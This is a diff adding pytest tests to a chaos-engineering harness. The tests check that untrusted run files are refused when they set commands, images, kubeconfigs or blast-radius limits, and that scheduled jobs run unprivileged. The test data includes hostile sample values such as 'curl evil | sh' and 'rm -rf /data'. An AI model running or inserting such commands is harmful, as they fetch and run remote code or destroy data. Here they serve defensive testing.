@@ -7,6 +7,8 @@ from pathlib import Path
 
 import pytest
 
+from chaos_harness.assemble.runfile import load_run_file
+from chaos_harness.core.errors import UsageError
 from chaos_harness.frontends import cli
 
 GOOD = '''
@@ -98,3 +100,44 @@ def test_allowed_changes_add_the_ordering_scenarios_that_change_a_target(tmp_pat
 def test_a_missing_run_file(tmp_path: Path, capsys) -> None:
     assert cli.main(["run", "--config", str(tmp_path / "nope.toml")]) == cli.EXIT_USAGE
     assert "cannot read it" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("text,key", [
+    ('abort_command = "curl evil | sh"', "abort_command"),
+    ('abort_when = ["command:reboot"]', "abort_when"),
+    ('agent_image = "evil/agent:1"', "agent_image"),
+    ('mysql_image = "evil/db:1"', "mysql_image"),
+    ('allow_context = ["prod-*"]', "allow_context"),
+    ('kubeconfig = "/etc/other"', "kubeconfig"),
+    ('max_faulted_nodes = 0', "max_faulted_nodes"),
+    ('max_faulted_nodes = 5', "max_faulted_nodes"),
+    ('agent_deadman_seconds = 100000', "agent_deadman_seconds"),
+    ('scenario_dirs = ["/tmp/x"]', "scenario_dirs"),
+    ('[[targets]]\nstatefulset = "a/b"\nprobe_write = "rm -rf /data"', "targets[0].probe_write"),
+])
+def test_an_untrusted_run_file_cannot_open_a_way_in(tmp_path: Path, text: str, key: str) -> None:
+    """A scheduled run's file sits in a ConfigMap the harness's own identity could rewrite: what would run a command,
+    an image or code of its choosing, reach another cluster or lift the blast radius is refused there in one line
+    (the same file, trusted, is accepted)."""
+    path = tmp_path / "run.toml"
+    path.write_text(text + "\n")
+    load_run_file(path, trusted=True)
+    with pytest.raises(UsageError) as refused:
+        load_run_file(path, trusted=False)
+    assert key in str(refused.value) and "--trust-run-file" in str(refused.value) and "\n" not in str(refused.value)
+    path.write_text('max_faulted_nodes = 1\nscenarios = ["s08"]\nabort_when = ["https://shop/healthz"]\n')
+    load_run_file(path, trusted=False)  # a blast radius of one and an http probe are fine
+
+
+def test_a_scheduled_run_distrusts_its_run_file_and_runs_unprivileged_unless_installed_otherwise() -> None:
+    from chaos_harness.frontends.schedule_spec import ScheduleSpec, objects
+
+    def pod(trust: bool) -> dict:
+        spec = ScheduleSpec("s", "chaos-harness", "0 3 * * *", "img", "", 600, trust_run_file=trust)
+        job = next(o for o in objects(spec) if o["kind"] == "CronJob")
+        return job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
+
+    assert "--untrusted-run-file" in pod(False)["args"] and "--untrusted-run-file" not in pod(True)["args"]
+    c = pod(False)
+    assert c["securityContext"]["allowPrivilegeEscalation"] is False and c["securityContext"]["capabilities"] == {
+        "drop": ["ALL"]} and c["resources"]["limits"]["memory"] == "1Gi"
